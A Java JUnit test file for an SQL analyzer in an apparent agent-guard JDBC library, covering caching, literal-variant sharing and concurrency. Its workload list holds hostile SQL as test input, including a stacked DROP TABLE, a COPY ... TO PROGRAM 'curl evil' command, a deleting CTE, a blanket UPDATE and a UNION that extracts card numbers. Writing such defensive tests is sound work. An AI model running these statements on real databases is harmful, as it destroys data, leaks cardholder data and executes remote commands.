package dev.agentguard.jdbc.sql;

import dev.agentguard.core.cache.BoundedCache;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotSame;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

class CachingAndConcurrencyTest {

    private static final List<String> WORKLOAD = List.of(
            "SELECT c.pan, upper(c.cvv) AS x FROM cards c WHERE c.id = 1",
            "SELECT c.pan, upper(c.cvv) AS x FROM cards c WHERE c.id = 2",
            "WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d",
            "INSERT INTO audit (id, note) SELECT id, 'x' FROM cards WHERE pan = '4111111111111111'",
            "UPDATE cards SET pan = NULL",
            "SELECT 1; DROP TABLE cards",
            "COPY cards TO PROGRAM 'curl evil'",
            "SELECT pg_sleep(1)",
            "not sql at all",
            "SELECT id, name FROM users UNION SELECT id, pan FROM cards ORDER BY 1",
            "{call refresh(?)}",
            "DELETE FROM cards WHERE id IN (SELECT id FROM expired)");

    @Test
    void answersARepeatedTextFromTheCache() {
        SqlAnalyzer analyzer = SqlAnalyzer.builder().build();
        String sql = "SELECT pan FROM cards WHERE id = ?";
        assertSame(analyzer.analyze(sql), analyzer.analyze(new String(sql.toCharArray())));
    }

    @Test
    void sharesTheAnalysisOfTextsThatDifferOnlyInLiterals() {
        SqlAnalyzer analyzer = SqlAnalyzer.builder().build();
        AnalyzedSql first = analyzer.analyze("SELECT pan FROM cards WHERE id = 1 AND note = 'a'");
        AnalyzedSql second = analyzer.analyze("SELECT pan FROM cards WHERE id = 2 AND note = 'b'");
        assertSame(first.action(), second.action());
        assertSame(first.resultColumns(), second.resultColumns());
        assertEquals(first.redactedSql(), second.redactedSql());
    }

    @Test
    void cachesALiteralVariantOfACachedShapeOnlyWhenItsTextComesBack() {
        SqlAnalyzer analyzer = SqlAnalyzer.builder().build();
        analyzer.analyze("SELECT pan FROM cards WHERE id = 1");
        String variant = "SELECT pan FROM cards WHERE id = 2";
        AnalyzedSql once = analyzer.analyze(variant);
        AnalyzedSql twice = analyzer.analyze(new String(variant.toCharArray()));
        assertNotSame(once, twice, "a text seen once is not kept: keys written into SQL would evict what repeats");
        assertEquals(once, twice);
        assertSame(twice, analyzer.analyze(variant), "seen twice, it is kept");
    }

    @Test
    void withoutACacheEveryCallAnalysesAgain() {
        SqlAnalyzer analyzer = SqlAnalyzer.builder().cacheSize(0).build();
        AnalyzedSql first = analyzer.analyze("SELECT pan FROM cards");
        AnalyzedSql second = analyzer.analyze("SELECT pan FROM cards");
        assertNotSame(first, second);
        assertEquals(first, second);
    }

    @Test
    void theCacheNeverHoldsMoreThanItsCapacity() {
        BoundedCache<Integer, Integer> cache = new BoundedCache<>(100);
        for (int i = 0; i < 10_000; i++) {
            cache.put(i, i);
            assertTrue(cache.size() <= 100, "size " + cache.size());
        }
        assertEquals(Integer.valueOf(9_999), cache.get(9_999));
    }

    @Test
    void manyThreadsGetTheSameAnswersAsOne() throws Exception {
        SqlAnalyzer reference = SqlAnalyzer.builder().cacheSize(0).build();
        List<AnalyzedSql> expected = WORKLOAD.stream().map(reference::analyze).toList();
        // a small cache forces evictions and re-analysis while other threads read
        SqlAnalyzer shared = SqlAnalyzer.builder().cacheSize(4).build();
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Callable<Integer>> tasks = new ArrayList<>();
            for (int t = 0; t < 8; t++) {
                int offset = t;
                tasks.add(() -> {
                    for (int i = 0; i < 300; i++) {
                        int k = (i + offset) % WORKLOAD.size();
                        assertEquals(expected.get(k), shared.analyze(WORKLOAD.get(k)), WORKLOAD.get(k));
                    }
                    return 300;
                });
            }
            for (Future<Integer> done : pool.invokeAll(tasks)) {
                assertEquals(300, done.get());
            }
        } finally {
            pool.shutdownNow();
        }
    }
}
